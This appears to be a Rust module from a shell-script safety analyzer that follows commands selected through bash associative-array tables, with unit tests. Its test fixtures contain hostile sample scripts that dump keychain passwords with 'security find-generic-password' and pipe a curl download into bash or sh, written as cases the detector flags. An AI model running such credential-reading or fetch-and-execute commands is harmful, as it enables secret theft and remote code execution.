//! Words of a list by keys: which may be meant where of the key at most the beginning and the end are known, and what these run.

use super::value::{Taint, Value};
use super::walk::Walk;

/// 24 commands of one table are followed: honest tables have ten.
const COMMANDS: usize = 24;

/// 64 bytes of one key.
const KEY: usize = 64;

/// The keys of a list and what stands behind each, which may be several words.
fn entries(list: &str) -> impl Iterator<Item = (&str, &str)> {
    let is_start = |at: usize| {
        let before = at.checked_sub(1).and_then(|before| list.as_bytes().get(before));
        before.is_none_or(u8::is_ascii_whitespace)
    };
    let key_at = move |at: usize| {
        let inside = list.get(at..)?.strip_prefix('[')?;
        let near = inside.get(..inside.floor_char_boundary(KEY))?;
        let (key, _) = near.split_once("]=")?;
        let rest = inside.get(key.len().saturating_add(2)..)?;
        (!key.contains([' ', '\n', '\t'])).then_some((key, rest))
    };
    let starts: Vec<usize> = list.match_indices('[').map(|(at, _)| at).filter(|at| is_start(*at)).collect();
    let keys: Vec<usize> = starts.into_iter().filter(|at| key_at(*at).is_some()).collect();
    (0..keys.len()).filter_map(move |number| {
        let (at, end) = (*keys.get(number)?, keys.get(number.saturating_add(1)).copied().unwrap_or(list.len()));
        let (key, rest) = key_at(at)?;
        let length = end.checked_sub(list.len().checked_sub(rest.len())?)?;
        Some((key, rest.get(..length)?.trim()))
    })
}

/// What stands at the key.
pub(super) fn at<'l>(list: &'l str, key: &str) -> Option<&'l str> {
    if !list.contains("]=") {
        return None;
    }
    entries(list).find(|(own, _)| *own == key).map(|(_, words)| words)
}

/// What may be meant by a key, in which stands `$` before what is not known of it: each with its own key.
pub(super) fn meant(list: &str, key: &str) -> String {
    let (start, after) = key.split_once('$').unwrap_or((key, ""));
    let end = after.rsplit(['}', ')']).next().unwrap_or_default();
    let fits =
        |own: &str| own.len() >= start.len().saturating_add(end.len()) && own.starts_with(start) && own.ends_with(end);
    let found = entries(list).filter(|(own, _)| fits(own)).take(COMMANDS);
    found.map(|(own, words)| format!("[{own}]={words}")).collect::<Vec<_>>().join(" ")
}

impl Walk<'_> {
    /// Follows every command that a table may mean, and returns what any of them prints; nothing where no table is meant.
    pub(super) fn runs_picked(&mut self, first: &Value, rest: &[Value], stdin: &Value) -> Option<Value> {
        if !first.taint.has(Taint::PICKED) || !first.text.starts_with('[') || self.steps > super::walk::STEPS / 2 {
            return None;
        }
        let taint = first.taint.without(Taint::PICKED);
        let word = |word: &str| Value { text: word.to_owned(), known: !word.contains('$'), taint };
        let commands: Vec<Vec<Value>> = entries(&first.text)
            .take(COMMANDS)
            .map(|(_, words)| words.split_ascii_whitespace().map(word).chain(rest.iter().cloned()).collect())
            .collect();
        self.steps = self.steps.saturating_add(commands.len());
        let outs: Vec<Taint> = commands.iter().map(|command| self.run(command, stdin.clone()).taint).collect();
        outs.into_iter().reduce(Taint::and).map(|taint| Value::unknown("", taint))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::Context;
    use crate::shell::tests::{is_danger, is_no_danger};

    #[test]
    fn words_behind_a_key_are_all_that_stand_before_the_next() {
        let list = " [a.x]=one two [b.x]=three [0]=[y] [c]=$(d)";
        assert_eq!(at(list, "a.x"), Some("one two"));
        assert_eq!(at(list, "0"), Some("[y]"));
        assert_eq!(meant(list, "${os}.x"), "[a.x]=one two [b.x]=three");
        assert_eq!(meant(list, "b${k}"), "[b.x]=three");
        assert_eq!(meant(list, "${k}.none"), "");
    }

    #[test]
    fn commands_of_a_table_that_a_key_may_mean_are_followed() {
        let table = "declare -A tool=(\n  [Darwin.copy]='pbcopy'\n  [Darwin.probe]='security find-generic-password -ga'\n  [Linux.get]='curl -fsS https://a.invalid/x'\n  [Linux.run]='bash -s'\n)\nos=$(uname -s)\nvia() { ${tool[$os.$1]:-true} \"${@:2}\"; }\n";
        for rest in
            ["for a in github aws; do via probe \"$a\"; done\n", "via get | via run\n", "${tool[$os.get]} | sh\n"]
        {
            is_danger(&format!("{table}{rest}"), Context::Script);
        }
        for rest in ["date | via copy\n", "via get | head -n 1\n", "via paste | via run\n"] {
            is_no_danger(&format!("{table}{rest}"), Context::Script);
        }
        is_no_danger(
            "declare -A by=([py]='python3 -m py_compile' [sh]='bash -n')\n${by[${1##*.}]} \"$1\"\n",
            Context::Script,
        );
        let own = "declare -A key=([Darwin]='security find-generic-password -w -s a-tool -a me' [Linux]='secret-tool lookup service a-tool')\nk=$(${key[$(uname)]})\n";
        is_no_danger(own, Context::Script);
    }

    #[test]
    fn a_table_of_many_commands_is_followed_only_so_far() {
        let rows: String = (0..3_000).map(|n| format!("  [k{n}]='run{n} a b'\n")).collect();
        let calls = "${t[$1]} x\n".repeat(500);
        is_no_danger(&format!("declare -A t=(\n{rows})\n{calls}"), Context::Script);
    }
}
